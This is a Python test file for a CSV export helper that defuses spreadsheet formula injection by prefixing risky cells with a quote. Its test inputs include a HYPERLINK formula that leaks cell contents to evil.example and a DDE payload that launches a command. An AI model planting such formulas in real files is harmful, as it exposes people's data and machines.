"""CSV for people: a cell a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io

import pytest

from workflows.csv_export import SafeDictWriter, SafeWriter, safe_cell


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["C-1001", "Dana", "2026-11-24T11:00:00+05:00", "", "a=b"])
def test_an_ordinary_cell_is_left_as_it_is(value: str) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [None, 5, -5, True, 1.5])
def test_what_is_not_text_is_left_to_the_csv_writer(value: object) -> None:
    assert safe_cell(value) == value


def test_both_writers_neutralise_every_row_however_it_is_written() -> None:
    out = io.StringIO()
    writer = SafeWriter(out)
    writer.writerow(["=1", "ok"])
    writer.writerows([["@a", "-b"], ["+c", None]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=1", "ok"],
        ["'@a", "'-b"],
        ["'+c", ""],
    ]

    out = io.StringIO()
    dict_writer = SafeDictWriter(out, fieldnames=("a", "b"))
    dict_writer.writeheader()
    dict_writer.writerow({"a": "=1", "b": 2})
    dict_writer.writerows([{"a": "\t=2", "b": "fine"}])
    assert list(csv.DictReader(io.StringIO(out.getvalue()))) == [
        {"a": "'=1", "b": "2"},
        {"a": "'\t=2", "b": "fine"},
    ]
